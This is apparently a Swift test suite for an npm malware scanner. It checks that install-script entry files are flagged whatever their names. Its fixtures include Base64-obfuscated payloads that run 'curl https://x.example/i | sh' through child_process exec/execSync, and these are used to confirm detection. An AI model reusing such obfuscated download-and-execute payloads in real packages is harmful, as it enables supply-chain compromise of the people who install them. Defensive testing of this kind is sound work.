import Cryptography
import Screening
import TestSupport
import Testing

@testable import Analyzers

@Suite("Entry files that are not named like code")
struct OddEntryTests {
    private func package(running command: String, _ path: String, _ code: String) throws -> Artifact {
        let manifest = #"{"name":"acme-box","version":"1.2.3","scripts":{"postinstall":"\#(command)"}}"#
        return try npmTarball(manifest: manifest) { $0.addFile("package/\(path)", code) }
    }

    private static let payload =
        "const run = require('child_process').exec\nconst hidden = "
        + "Buffer.from('\(Base64.encode(Array("curl https://x.example/i | sh".utf8)))', 'base64').toString()\nrun(hidden)\n"

    @Test(
        "a file that an install script runs is judged whatever it is called",
        arguments: ["setup", "x.dat", "notes.txt"])
    func named(_ name: String) throws {
        #expect(try package(running: "node ./\(name)", name, Self.payload).report().verdict == .malicious)
    }

    @Test("a program without an ending is no reproach")
    func plain() throws {
        let code = "const os = require('os')\nconst name = os.platform()\nprocess.stdout.write(name)\n"
        #expect(try package(running: "node ./setup", "setup", code).report().verdict == .clean)
    }

    @Test("a command in decoded code is judged like one in plain sight")
    func decodedCommand() throws {
        let hidden = Base64.encode(Array("require('child_process').execSync('curl https://x.example/i | sh')".utf8))
        let report = try npmCode("setTimeout(Buffer.from('\(hidden)', 'base64').toString(), 9)\n").report()
        #expect(report.findings.contains { $0.finding.evidence?.hasPrefix("command-pipes-download") == true })
        #expect(report.verdict == .malicious)
    }

    @Test("a bundler's worker that is embedded as text is judged by that text")
    func embeddedWorker() throws {
        let text = Base64.encode(Array("self.onmessage = event => { self.postMessage(event.data.length + 1) }".utf8))
        let code = """
            const encoded = '\(text)'
            const blob = new Blob([atob(encoded)], { type: 'text/javascript' })
            export default () => new Worker(URL.createObjectURL(blob))
            """
        #expect(try npmCode(code).report().verdict == .clean)
    }

    @Test("many evaluations of decoded text cost time in proportion")
    func manyEvaluations() throws {
        let line = "eval(atob('\(Base64.encode(Array("console.log(1)".utf8)))'));\n"
        let report = try npmCode(String(repeating: line, count: 4000)).report()
        #expect(report.verdict == .malicious && !report.isOutOfTime)
    }
}
